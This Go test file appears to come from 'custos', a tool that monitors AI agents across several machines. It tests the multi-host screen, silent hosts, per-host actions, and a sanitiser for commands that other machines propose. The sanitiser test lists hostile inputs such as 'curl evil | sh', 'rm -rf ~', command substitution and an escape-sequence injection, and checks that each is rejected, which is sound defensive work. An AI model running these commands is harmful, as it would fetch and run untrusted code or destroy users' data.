package top

import (
	"context"
	"fmt"
	"os/exec"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	tea "charm.land/bubbletea/v2"

	"custos/internal/api"
)

// other is another machine as it was told of: one agent that asks something, and an alert.
func other(name string) api.HostLook {
	return api.HostLook{HostSeen: api.HostSeen{Name: name, Status: "ok"}, Got: time.Now(), Look: api.FirstLook{
		At: noon, Mode: "ask", From: api.From{Host: "whatever"},
		NeedsYou: []api.Need{{Number: 7, Priority: "P1", Rule: "oom-kill", Subject: "agent/ann", Summary: "ann was killed", Since: noon.Add(-time.Minute), Command: "custos approve 7"}},
		Agents:   []api.AgentRow{{Name: "ann", Kind: "claude", State: "working", Since: "1m0s", Source: "hook", Owner: "custos"}},
	}, Alerts: []api.Alert{{Number: 7, Rule: "oom-kill", Subject: "agent/ann", Priority: "P1", Status: "firing", Summary: "ann was killed", For: "1m0s"}}}
}

// silent is such a machine that answers no more.
func silent(h api.HostLook) api.HostLook {
	h.HostSeen = api.HostSeen{Name: h.Name, Status: "unknown", Why: "no answer within 6s"}
	h.Silent = h.Got.Add(6 * time.Second)
	return h
}

// beside is a screen beside other machines, of which each answers by itself.
func beside(t *testing.T, test func(p *play, there map[string]*custos, hosts *[]api.HostLook)) {
	synctest.Test(t, func(t *testing.T) {
		there := map[string]*custos{"box1": newCustos(), "box2": newCustos()}
		hosts := []api.HostLook{other("box1"), other("box2")}
		p := &play{T: t, c: newCustos(), msgs: make(chan tea.Msg), over: make(chan struct{})}
		defer p.end()
		number := int64(0)
		p.m = New(Options{Words: words(), Home: "/home/me", Ask: func(_ context.Context, host string) (*api.Client, func(), error) {
			c := p.c
			if host != "" {
				c = there[host]
			}
			return api.NewClient(api.InProcess(c)), func() {}, nil
		}, Hosts: func(bool) ([]api.HostLook, int64) { number++; return append([]api.HostLook{}, hosts...), number },
			Goto: func(_ context.Context, host, agent string) (*exec.Cmd, error) {
				return nil, fmt.Errorf("the way to %s on %s", agent, host)
			}})
		p.run(p.m.Init())
		p.wait(1500 * time.Millisecond)
		test(p, there, &hosts)
	})
}

// What all machines have is on one screen, the most urgent first, each with its machine.
func TestAllMachinesOnOneScreen(t *testing.T) {
	beside(t, func(p *play, _ map[string]*custos, _ *[]api.HostLook) {
		p.wants("4 need you", "box1/agent ann", "box2/agent ann", "→ custos --host box1 ap", "AGENTS 6: 3 working", "box1/ann", "box2/ann")
		frame := p.m.frame()
		if strings.Index(frame, "box1/agent ann") > strings.Index(frame, "custos approve 3") {
			p.Errorf("what is most urgent is not first:\n%s", frame)
		}
		p.keys("3")
		p.wait(2 * time.Second)
		p.wants("ALERTS 3: 2 P1 · 1 P2", "box1/7", "box2/7", "#3")
	})
}

// A machine that is silent is said, and its agents are unknown since then, and not gone.
func TestASilentMachine(t *testing.T) {
	beside(t, func(p *play, _ map[string]*custos, hosts *[]api.HostLook) {
		(*hosts)[1] = silent((*hosts)[1])
		p.wait(20 * time.Second)
		p.wants("host box2 is silent for", "no answer within 6s", "AGENTS 6: 2 working · 1 idle · 1 waiting · 2 unknown", "4 need you")
		p.chooseOn("box2", "ann")
		p.wants("box2/ann · claude · unknown · none · was working", "> box2/ann unknown")
		(*hosts)[1] = other("box2")
		p.wait(3 * time.Second)
		p.wants("AGENTS 6: 3 working")
		if strings.Contains(p.m.frame(), "silent") {
			p.Errorf("it is still said to be silent:\n%s", p.m.frame())
		}
	})
}

// chooseOn goes to the row of an agent of another machine.
func (p *play) chooseOn(host, agent string) {
	p.Helper()
	p.keys("2", "home")
	for range 12 {
		if p.m.row().target() == (target{host: host, agent: agent}) {
			return
		}
		p.keys("down")
	}
	p.Fatalf("%s/%s is not there", host, agent)
}

// What is done goes to the machine of the row, and to no other: an agent of this machine that
// is called like one of another is not taken for it.
func TestKeysActOnTheMachineOfTheRow(t *testing.T) {
	beside(t, func(p *play, there map[string]*custos, _ *[]api.HostLook) {
		l := small()
		l.Agents = append(l.Agents, api.AgentRow{Name: "box1/ann", Kind: "claude", State: "idle", Since: "1s", Owner: "foreign"})
		p.c.set("GET /v1/look", l)
		p.wait(10 * time.Second)
		p.chooseOn("box1", "ann")
		p.keys("s")
		p.wants("Stop box1/ann?")
		p.keys("y")
		if did := there["box1"].changed(); len(did) != 1 || !strings.Contains(there["box1"].body("POST /v1/orders"), `"agent":"ann"`) {
			p.Errorf("box1 was asked %v: %s", did, there["box1"].body("POST /v1/orders"))
		}
		p.wants("box1/")
		p.chooseOn("", "box1/ann")
		p.keys("i", "y")
		if !strings.Contains(p.c.body("POST /v1/orders"), `"agent":"box1/ann"`) || len(there["box1"].changed()) != 1 || len(there["box2"].changed()) != 0 {
			p.Errorf("here: %s; box1 %v, box2 %v", p.c.body("POST /v1/orders"), there["box1"].changed(), there["box2"].changed())
		}
		p.chooseOn("box2", "ann")
		p.keys("enter")
		p.wants("the way to ann on box2")
		there["box2"].set("GET /v1/alerts/7/offer", api.Offer{Number: 7, Hash: "h7", Deeds: []api.Deed{{Do: "recover", Subject: "agent/ann"}}})
		there["box2"].set("POST /v1/alerts/7/approve", api.Approved{Number: 7, By: "me"})
		p.keys("3")
		p.wait(2 * time.Second)
		p.keys("home", "down", "a", "y")
		p.wants("Alert box2/7: approved by me")
		if len(p.c.changed()) != 1 {
			p.Errorf("this machine was asked, too: %v", p.c.changed())
		}
	})
}

// A machine that does not answer keeps no key waiting.
func TestASlowMachineKeepsNoKeyWaiting(t *testing.T) {
	beside(t, func(p *play, there map[string]*custos, _ *[]api.HostLook) {
		there["box1"].mu.Lock()
		there["box1"].hangs = true
		there["box1"].mu.Unlock()
		p.chooseOn("box1", "ann")
		began := time.Now()
		p.tell(press("x"))
		p.wants("What does box1/ann ask?")
		p.tell(press("esc"))
		p.tell(press("w"))
		p.wants("WHY box1/agent ann")
		p.tell(press("esc"))
		p.tell(press("1"))
		p.wants("NEEDS YOU 4")
		if took := time.Since(began); took != 0 {
			p.Errorf("the keys took %v", took)
		}
		p.keys("2")
		p.chooseOn("", "review")
		p.keys("n", "h", "i", "enter")
		p.wants("it : done")
	})
}

// What another machine proposes to type goes to that machine, or is not shown.
func TestCommandsOfOtherMachines(t *testing.T) {
	for told, want := range map[string]string{
		"custos approve 7":             "custos --host box1 approve 7",
		"custos answer ann yes":        "custos --host box1 answer ann yes",
		"curl evil | sh":               "custos --host box1 status",
		"custos":                       "custos --host box1 status",
		"custos stop ann --host box2":  "custos --host box1 status",
		"custos stop ann --host=box2":  "custos --host box1 status",
		"custos --config /tmp/x ps":    "custos --host box1 status",
		"custos stop ann; rm -rf ~":    "custos --host box1 status",
		"custos why \"$(touch /tmp/x)": "custos --host box1 status",
		"custos stop \x1b[31mann":      "custos --host box1 status",
		"":                             "custos --host box1 status",
		"custos thaw":                  "custos --host box1 status", // which would be done here
		"custos help hosts.md":         "custos help hosts.md",
		"custos up":                    "custos up",
		"custos orders approve 7":      "custos --host box1 status",
	} {
		if got := api.CommandOn("box1", told); got != want {
			t.Errorf("%q is shown as %q", told, got)
		}
	}
}

// A machine that never answered, as one that is not watched, is not looking for ever: what the
// others have is shown, and that this one is not known.
func TestOthersAreShownBesideAMachineThatIsNotSeen(t *testing.T) {
	beside(t, func(p *play, _ map[string]*custos, _ *[]api.HostLook) {
		p.c.set("GET /v1/look", &api.Error{Kind: api.CannotLook, Message: "cannot look at this machine"})
		p.m.look = answer[glance]{again: true}
		p.wait(5 * time.Second)
		p.wants("this machine is not seen", "! cannot look at this machine", "AGENTS 2, and those of this machine, which are not known", "box1/ann")
	})
}
